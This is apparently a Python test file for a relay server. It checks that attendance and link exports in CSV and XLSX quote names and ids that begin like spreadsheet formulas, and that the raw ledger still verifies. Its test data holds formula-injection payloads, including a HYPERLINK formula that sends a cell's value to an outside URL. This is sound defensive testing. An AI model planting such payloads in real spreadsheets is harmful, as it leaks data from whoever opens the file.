"""Every CSV and XLSX the relay writes: no cell of a name or an id is a formula."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from server.attendance.events import Join
from server.store import Member
from server.tables import cell

HOSTILE = {
    "F1": '=HYPERLINK("http://x/?t="&D2,"y")',
    "F2": "@SUM(1)",
    "F3": "+1+1",
    "F4": "-2-3",
    "F5": "\t=1",
    "F6": "\r=1",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_text_that_starts_like_a_formula_gets_a_quote_and_numbers_stay_numbers():
    assert cell("=1+1") == "'=1+1" and cell("@x") == "'@x" and cell("\tx") == "'\tx"
    assert cell("甲") == "甲" and cell("a=b") == "a=b" and cell("") == ""
    assert cell(-5) == -5 and cell(-0.5) == -0.5 and cell(None) is None and cell(True) is True


def assert_neutral(values: list) -> None:
    """No text cell starts as a formula would; the hostile names are there, quoted."""
    texts = [v for v in values if isinstance(v, str)]
    assert not [v for v in texts if v.startswith(FORMULA_START)], texts
    for name in HOSTILE.values():
        # XML reads a CR as a line feed: in XLSX "\r=1" comes back as "\n=1", still quoted
        assert "'" + name in texts or "'" + name.replace("\r", "\n") in texts, name


def csv_cells(body: bytes) -> list:
    return [v for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")) for v in row]


def xlsx_cells(body: bytes) -> list:
    cells = [
        c for ws in load_workbook(io.BytesIO(body)).worksheets for r in ws.iter_rows() for c in r
    ]
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert not formulas, formulas
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))  # plain text
    return [c.value for c in cells]


async def test_hostile_names_come_out_neutralised_in_every_export(relay):
    links = relay.new_session()
    sid = links["session_id"]
    relay.state.store.upsert_members([Member(mid, name, "团堡镇") for mid, name in HOSTILE.items()])
    relay.state.store.upsert_members([Member("=ID1", "正常", "团堡镇")])  # an id, too
    for mid in [*HOSTILE, "=ID1"]:
        join = Join(f"member:{mid}", f"peer-{mid}", "token", "1.2.3.4", False)
        await relay.state.attendance.append(sid, join)
    auth = {"Authorization": f"Bearer {relay.token('admin', None)}"}
    base = f"{relay.base_url}/api/sessions/{sid}"
    for path in ("/attendance", "/links"):
        for fmt, read in (("csv", csv_cells), ("xlsx", xlsx_cells)):
            async with relay.http.get(f"{base}{path}?format={fmt}", headers=auth) as resp:
                assert resp.status == 200, (path, fmt)
                values = read(await resp.read())
            assert_neutral(values)
            assert "'=ID1" in values and "=ID1" not in values, (path, fmt)
    # the ledger keeps what happened as it was: the raw id, and the chain still verifies
    participants = {r.data.get("participant") for r in relay.state.attendance.ledger.rows(sid)}
    assert "member:=ID1" in participants
    async with relay.http.get(f"{base}/verify", headers=auth) as resp:
        assert resp.status == 200 and (await resp.json())["ok"]
